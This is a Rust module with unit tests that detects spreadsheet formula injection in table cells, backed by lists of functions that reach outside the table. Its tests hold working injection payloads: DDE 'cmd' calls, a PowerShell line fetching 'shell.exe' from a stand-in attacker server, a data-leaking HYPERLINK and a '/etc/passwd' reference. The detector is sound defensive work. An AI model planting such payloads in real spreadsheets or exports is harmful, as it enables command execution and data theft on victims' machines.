//! Whether a spreadsheet would run a cell of a table.
//!
//! A sign in front makes no formula: `- item`, `-5`, `@ada said`, `== Heading ==`, `=> then`
//! and lines of a patch begin with one too. So the cell is read as a formula is, operand by
//! operand, and only one that can be read so to its end and does something counts; what
//! reaches out of the table (a call such as HYPERLINK, a pipe to another program) counts as
//! soon as it is met.

use std::str::Chars;

/// Functions that reach out of the table or run something, as English and localised
/// spreadsheets call them.
const REACHING: &[&str] = &[
    "CALL",
    "COLLEG.IPERTESTUALE",
    "DDE",
    "DDEAUTO",
    "EXEC",
    "FILTERXML",
    "HIPERLIGAÇÃO",
    "HIPERVINCULO",
    "HIPERVÍNCULO",
    "HIPERŁĄCZE",
    "HYPERLINK",
    "IMAGE",
    "IMPORTDATA",
    "IMPORTFEED",
    "IMPORTHTML",
    "IMPORTRANGE",
    "IMPORTXML",
    "LIEN_HYPERTEXTE",
    "REGISTER",
    "REGISTER.ID",
    "RTD",
    "SERVICEWEB",
    "SERVICIOWEB",
    "SERVIZIO.WEB",
    "WEBDIENST",
    "WEBSERVICE",
    "ВЕБСЛУЖБА",
    "ГИПЕРССЫЛКА",
];

/// Functions that spreadsheets know and tables of formulas use.
const KNOWN: &[&str] = &[
    "ABS",
    "ADDRESS",
    "AND",
    "ARRAYFORMULA",
    "AVERAGE",
    "AVERAGEIF",
    "CEILING",
    "CELL",
    "CHAR",
    "CHOOSE",
    "CODE",
    "COLUMN",
    "CONCAT",
    "CONCATENATE",
    "COUNT",
    "COUNTA",
    "COUNTIF",
    "COUNTIFS",
    "DATE",
    "DATEVALUE",
    "DAY",
    "EDATE",
    "ENCODEURL",
    "EXP",
    "FILTER",
    "FIND",
    "FLOOR",
    "GOOGLEFINANCE",
    "GOOGLETRANSLATE",
    "HLOOKUP",
    "HOUR",
    "IF",
    "IFERROR",
    "IFNA",
    "IFS",
    "INDEX",
    "INDIRECT",
    "INFO",
    "INT",
    "ISBLANK",
    "ISERROR",
    "ISNUMBER",
    "LAMBDA",
    "LEFT",
    "LEN",
    "LET",
    "LN",
    "LOG",
    "LOOKUP",
    "LOWER",
    "MATCH",
    "MAX",
    "MEDIAN",
    "MID",
    "MIN",
    "MINUTE",
    "MOD",
    "MONTH",
    "NOT",
    "NOW",
    "OFFSET",
    "OR",
    "POWER",
    "PRODUCT",
    "PROPER",
    "QUERY",
    "RAND",
    "RANDBETWEEN",
    "REPLACE",
    "REPT",
    "RIGHT",
    "ROUND",
    "ROUNDDOWN",
    "ROUNDUP",
    "ROW",
    "SEARCH",
    "SORT",
    "SPARKLINE",
    "SQRT",
    "SUBSTITUTE",
    "SUBTOTAL",
    "SUM",
    "SUMIF",
    "SUMIFS",
    "SUMPRODUCT",
    "SWITCH",
    "TEXT",
    "TEXTJOIN",
    "TODAY",
    "TRANSPOSE",
    "TRIM",
    "UNIQUE",
    "UPPER",
    "VALUE",
    "VLOOKUP",
    "XLOOKUP",
    "YEAR",
];

/// Whether a spreadsheet would take the cell for a formula.
pub(super) fn is_formula(cell: &str) -> bool {
    let mut letters = cell.trim_start().chars();
    let sign = match letters.next() {
        Some('=' | '＝') => '=',
        Some('@' | '＠') => '@',
        Some('+' | '-' | '＋' | '－') => '+',
        _ => return false,
    };
    // “= 5 + 3” is a step of a sum, “- SUM(x)” an item of a list, “+   call(x)” a patch.
    let spaced = letters.as_str().starts_with(char::is_whitespace);
    let reader =
        Reader { rest: letters, bound: sign == '=' && !spaced, found: Found::default(), open: Vec::new() };
    match reader.read() {
        Read::Words => false,
        Read::Reaches => true,
        Read::Formula(found) if sign == '=' => {
            found.reaching
                || (found.shouted && !(found.name && spaced))
                // Names of no function and no cell stand in code: `=max(low, high)`.
                || !found.name && ((found.cell && found.sum) || (!spaced && (found.known || found.sum)))
        }
        // “@Max(10)” is Java.
        Read::Formula(found) => found.shouted && (found.reaching || (found.known && !found.name && !spaced)),
    }
}

/// What a formula holds.
#[derive(Clone, Copy, Default)]
struct Found {
    /// A call of a function that reaches out.
    reaching: bool,
    /// A call in capitals, as spreadsheets write them.
    shouted: bool,
    /// A call of a function on the list.
    known: bool,
    /// A reference to cells.
    cell: bool,
    /// An operator between two operands.
    sum: bool,
    /// A word that is neither.
    name: bool,
}

/// What a cell is behind its sign.
enum Read {
    /// No formula.
    Words,
    /// Reaches out of the table, whatever follows.
    Reaches,
    /// One from its beginning to its end.
    Formula(Found),
}

/// Reads operands and operators in turn, in one pass.
struct Reader<'a> {
    rest: Chars<'a>,
    /// Whether the sign can begin nothing but a formula.
    bound: bool,
    found: Found,
    /// Parentheses that are open: true for those of a call.
    open: Vec<bool>,
}

/// How an operand ended.
enum Operand {
    Done,
    /// An opening parenthesis: another operand has to follow.
    Opened,
    None,
    Reaches,
}

/// Parentheses inside each other at most, as spreadsheets have it.
const MAX_OPEN: usize = 64;

impl<'a> Reader<'a> {
    fn read(mut self) -> Read {
        loop {
            match self.operand() {
                Operand::None => return Read::Words,
                Operand::Reaches => return Read::Reaches,
                Operand::Opened => continue,
                Operand::Done => {}
            }
            match self.operator() {
                Some(true) => {}
                Some(false) => return Read::Words,
                None => return Read::Formula(self.found),
            }
        }
    }

    fn peek(&self) -> Option<char> {
        self.rest.clone().next()
    }

    /// Passes over a character if it is the next.
    fn take(&mut self, wanted: char) -> bool {
        let is = self.peek() == Some(wanted);
        if is {
            self.rest.next();
        }
        is
    }

    fn spaces(&mut self) {
        self.rest = self.rest.as_str().trim_start().chars();
    }

    /// The characters from here on that pass.
    fn run(&mut self, passes: impl Fn(char) -> bool) -> &'a str {
        let text = self.rest.as_str();
        let end = text.find(|c| !passes(c)).unwrap_or(text.len());
        self.rest = text[end..].chars();
        &text[..end]
    }

    /// A number, a text, a cell, a call or something in parentheses, with its signs.
    fn operand(&mut self) -> Operand {
        loop {
            self.spaces();
            if !(self.take('+') || self.take('-') || self.take('@')) {
                break;
            }
        }
        match self.peek() {
            Some('(') => {
                self.take('(');
                self.opened(false)
            }
            Some('"') => self.quoted('"').map_or(Operand::None, |_| Operand::Done),
            Some('\'') => self.sheet(),
            Some(c) if c.is_ascii_digit() => {
                self.run(|c| c.is_ascii_digit() || c == '.');
                self.take('%');
                Operand::Done
            }
            Some(c) if c.is_alphabetic() || "$_\\".contains(c) => self.word(),
            _ => Operand::None,
        }
    }

    fn opened(&mut self, call: bool) -> Operand {
        self.open.push(call);
        if self.open.len() > MAX_OPEN { Operand::None } else { Operand::Opened }
    }

    /// What stands between two quotes, a doubled one being one of the text.
    fn quoted(&mut self, quote: char) -> Option<&'a str> {
        self.take(quote);
        let text = self.rest.as_str();
        loop {
            self.run(|c| c != quote);
            let length = text.len() - self.rest.as_str().len();
            if !self.take(quote) {
                return None;
            }
            if !self.take(quote) {
                return Some(&text[..length]);
            }
        }
    }

    /// `'My sheet'!A1`, `'[other.xlsx]Sheet1'!A1`, `'file:///etc/passwd'#$passwd.A1`.
    fn sheet(&mut self) -> Operand {
        let Some(name) = self.quoted('\'') else { return Operand::None };
        let other = name.contains(['[', ':', '\\']);
        if self.take('#') {
            return if self.peek() == Some('$') { Operand::Reaches } else { Operand::None };
        }
        if !self.take('!') {
            return Operand::None;
        }
        match self.behind_a_sheet() {
            Operand::Done if other => Operand::Reaches,
            found => found,
        }
    }

    fn word(&mut self) -> Operand {
        let word = self.run(|c| c.is_alphanumeric() || "$_.\\".contains(c));
        if self.take('|') {
            return if self.is_exchange() { Operand::Reaches } else { Operand::None };
        }
        if self.take('!') {
            return self.behind_a_sheet();
        }
        let upper = word.to_uppercase();
        let name = upper.trim_start_matches("_XLFN.");
        let listed = REACHING.contains(&name) || KNOWN.contains(&name);
        if listed {
            self.spaces();
        }
        if self.take('(') {
            return self.call(name, word == upper);
        }
        if is_cell(word) {
            self.found.cell = true;
        } else if !["TRUE", "FALSE"].contains(&name) {
            self.found.name = true;
        }
        Operand::Done
    }

    fn call(&mut self, name: &str, shouted: bool) -> Operand {
        self.found.known |= KNOWN.contains(&name);
        self.found.shouted |= shouted && name.chars().nth(1).is_some();
        if REACHING.contains(&name) {
            if self.bound {
                return Operand::Reaches;
            }
            self.found.reaching |= shouted;
        }
        self.spaces();
        if self.take(')') { Operand::Done } else { self.opened(true) }
    }

    /// `A1` of `Sheet1!A1`.
    fn behind_a_sheet(&mut self) -> Operand {
        let word = self.run(|c| c.is_ascii_alphanumeric() || c == '$');
        self.found.cell |= is_cell(word);
        if is_cell(word) { Operand::Done } else { Operand::None }
    }

    /// Whether `'/C calc'!A0` or `topic!item` stands here, behind a program and a pipe:
    /// dynamic data exchange.
    fn is_exchange(&mut self) -> bool {
        if self.peek() == Some('\'') {
            return self.quoted('\'').is_some() && self.take('!');
        }
        let topic = self.run(|c| c.is_alphanumeric() || "_.\\:/".contains(c));
        !topic.is_empty() && self.take('!') && self.peek().is_some_and(char::is_alphanumeric)
    }

    /// What stands behind an operand: true if another operand follows, false if this is no
    /// formula, none at its end.
    fn operator(&mut self) -> Option<bool> {
        loop {
            self.spaces();
            let Some(next) = self.rest.next() else {
                return if self.open.is_empty() { None } else { Some(false) };
            };
            match next {
                ')' if self.open.pop().is_some() => {}
                ',' | ';' if self.open.last() == Some(&true) => {
                    self.run(|c| c.is_whitespace() || c == ',' || c == ';');
                    // `IF(A1,)`: an empty last argument.
                    if self.peek() != Some(')') {
                        return Some(true);
                    }
                }
                ':' | '+' | '-' | '*' | '/' | '^' | '&' | '=' | '<' | '>' => {
                    if next == '<' || next == '>' {
                        let _or_equal = self.take('=') || self.take('>');
                    }
                    self.found.sum = true;
                    return Some(true);
                }
                _ => return Some(false),
            }
        }
    }
}

/// `A1`, `$AB$12`: a column of up to three letters and a row of up to seven digits.
fn is_cell(word: &str) -> bool {
    let word = word.strip_prefix('$').unwrap_or(word);
    let letters = word.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(word.len());
    let row = word[letters..].strip_prefix('$').unwrap_or(&word[letters..]);
    (1..=3).contains(&letters)
        && (1..=7).contains(&row.len())
        && row.bytes().all(|b| b.is_ascii_digit())
        && !row.starts_with('0')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_runs_is_found() {
        for formula in [
            "=HYPERLINK(\"http://x\",\"click\")",
            "=HYPERLINK(\"http://x?leak=\"&A1&A2,\"Error: click\") and more words",
            "=hyperlink(\"http://x\")",
            "= HYPERLINK(\"http://x\")",
            "=cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "+cmd|' /C x'!A",
            "-2+3+cmd|' /C calc'!A0",
            "=2+5+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "=DDE(\"cmd\";\"/C calc\";\"!A0A0\")",
            "=DDE (\"cmd\", \"/C calc\", \"x\")",
            "\t=SUM(A1:B2)",
            "\r\n=SUM(A1:B2)",
            "＝SUM(A1)",
            "＋SUM(1,2)",
            "＠SUM(A1)",
            "+SUM(1,2)",
            "-SUM(1;2)",
            "=+SUM(A1,,2)",
            "=IF(A1>3,\"a \"\"b\"\"\",)",
            "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
            "=WEBSERVICE(\"http://x/\"&A1)",
            "+WEBSERVICE(\"http://x\")",
            "=SUMME(A1:A3)",
            "=СУММ(A1;B2)",
            "=ГИПЕРССЫЛКА(\"http://x\")",
            "='file:///etc/passwd'#$passwd.A1",
            "='[other.xlsx]Sheet 1'!$A$1",
            "=Sheet1!A1*2",
            "=A1*B2",
            "= A1 + B2",
            "=$A$1:$B$2",
            "=-(A1+2)",
            "=1+1",
            "=3*4%",
            "=_xlfn.CONCAT(A1,B1)",
            "=NOW()",
            "=RAND( )*2",
        ] {
            assert!(is_formula(formula), "{formula}");
        }
    }

    #[test]
    fn honest_cells_that_begin_with_a_sign_are_words() {
        for words in [
            "",
            " ",
            "=",
            "-",
            "-5",
            "+1",
            "-3.5 %",
            "+49 170 1234567",
            "+49-170-1234567",
            "+1 (agreed)",
            "+1 (555) 010-9999",
            "- a list item",
            "- a point (see below)",
            "- SUM(x) adds numbers",
            "- HYPERLINK(url, name) makes a link",
            "-- (dash)",
            "--verbose",
            "---",
            "-Wall -O2",
            "-rf /tmp",
            "-b 1|c",
            "- yes|no!",
            "- 'Stop'! he cried",
            "=> then",
            "=)",
            "=(",
            "=D",
            "== Heading ==",
            "=== b ===",
            "= 5 cm",
            "= 2 + 3 = 5",
            "= f(x) + 2",
            "= C*CX( I ) + S*CY( I )",
            "=foo(bar)",
            "=max(low, high)",
            "= sqrt(16) = 4",
            "= is a sign",
            "=5",
            "=CO2",
            "=begin pod",
            "=head1 NAME",
            "@alice hi",
            "@alice",
            "@ada said (yesterday)",
            "@Override",
            "@Max(10)",
            "@Test(timeout=100)",
            "@media (max-width: 100px) { a { b: c } }",
            "@property\ndef x(self): ...",
            "alice@example.org",
            "+    foo(bar)",
            "+    call(x)",
            "-call(x)",
            "+sum(a, b)",
            "-    return max(a, b)\n+    return min(a, b)",
            "+ import os",
            "+x",
            "-x + y",
            "-B12",
            "−5",
            "cmd|' /C calc'!A0",
            "SUM(A1)",
        ] {
            assert!(!is_formula(words), "{words}");
        }
    }

    #[test]
    fn long_cells_are_read_in_one_pass() {
        for part in ["(", "A1+", "\"\"", "''", "SUM(", "-", "x|", ",", "\u{ff1d}"] {
            assert!(!is_formula(&format!("={}", part.repeat(300_000))), "{part}");
        }
    }
}
